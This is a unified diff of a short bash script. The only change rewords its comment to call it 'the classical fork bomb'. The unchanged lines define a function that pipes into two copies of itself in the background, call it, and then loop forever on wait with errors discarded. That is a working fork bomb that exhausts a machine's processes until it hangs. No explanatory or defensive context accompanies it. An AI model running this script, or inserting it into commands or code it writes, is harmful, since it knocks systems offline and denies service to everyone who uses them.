@@ -1,4 +1,4 @@
-# The classical one: every process makes two more, for ever.
+# The classical fork bomb: every process makes two more, forever.
 bomb() { bomb | bomb & }
 bomb
 while :; do wait; done 2>/dev/null
